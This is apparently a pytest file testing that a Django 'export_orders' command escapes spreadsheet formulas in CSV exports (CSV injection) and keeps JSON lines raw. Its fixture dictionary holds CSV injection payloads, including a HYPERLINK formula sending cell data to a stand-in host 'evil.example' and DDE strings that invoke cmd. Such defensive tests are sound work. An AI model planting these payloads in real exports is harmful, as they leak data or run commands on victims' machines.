"""`export_orders --format csv` writes no live spreadsheet formula (OWASP CSV injection), with the same escaper as the
admin's CSV export; the JSON lines format stays the data as it is."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command

from tests.admin.factories import OrderFactory, StoreFactory

pytestmark = pytest.mark.django_db

# Values an attacker can put in an order (a channel order id, a source name) and Genstore mirrors as they are.
FORMULAS = {
    "order_id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "source_identifier": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source_name": "+1+cmd|' /C calc'!A0",
    "financial_status": "-2+3",
    "fulfillment_status": "\t=1+1",
    "unified_status": "\r=1+1",
}
COLUMNS = {"order_id": "orderId", "source_identifier": "sourceIdentifier", "source_name": "sourceName",
           "financial_status": "financialStatus", "fulfillment_status": "fulfillmentStatus",
           "unified_status": "unifiedStatus"}


def _export(store, fmt: str) -> str:
    out = io.StringIO()
    call_command("export_orders", store=store.domain, format=fmt, stdout=out)
    return out.getvalue()


def test_export_orders_csv_escapes_cells_starting_with_a_formula_character():
    store = StoreFactory()
    OrderFactory(store=store, **FORMULAS)
    OrderFactory(store=store, order_id="1001", source_identifier="111-222", source_name="web")

    rows = list(csv.DictReader(io.StringIO(_export(store, "csv"), newline="")))
    evil = next(row for row in rows if row["orderId"] != "1001")
    for field, value in FORMULAS.items():
        assert evil[COLUMNS[field]] == "'" + value, field  # shown as text, never run
    plain = next(row for row in rows if row["orderId"] == "1001")
    assert plain["sourceIdentifier"] == "111-222" and plain["sourceName"] == "web"  # ordinary cells unchanged
    assert json.loads(plain["lineItems"]) == []


def test_export_orders_csv_quotes_a_carriage_return_so_no_cell_starts_a_new_row():
    # Unquoted, a CR inside a cell ends the row in a spreadsheet: the text after it would be a fresh, unescaped cell.
    store = StoreFactory()
    OrderFactory(store=store, order_id="1002", source_identifier="x\r=1+2")
    text = _export(store, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2
    assert rows[1][2] == "x\r=1+2"


def test_export_orders_jsonl_keeps_the_values_raw():
    store = StoreFactory()
    OrderFactory(store=store, **FORMULAS)
    (row,) = [json.loads(line) for line in _export(store, "jsonl").splitlines()]
    for field, value in FORMULAS.items():
        assert row[COLUMNS[field]] == value


def test_admin_export_and_export_orders_share_one_formula_escaper():
    from oma.core import csv_cells
    from oma.merchant import admin_orders as orders_admin
    from oma.merchant.management.commands import export_orders

    assert orders_admin.safe_cell is csv_cells.safe_cell
    assert export_orders.safe_cell is csv_cells.safe_cell
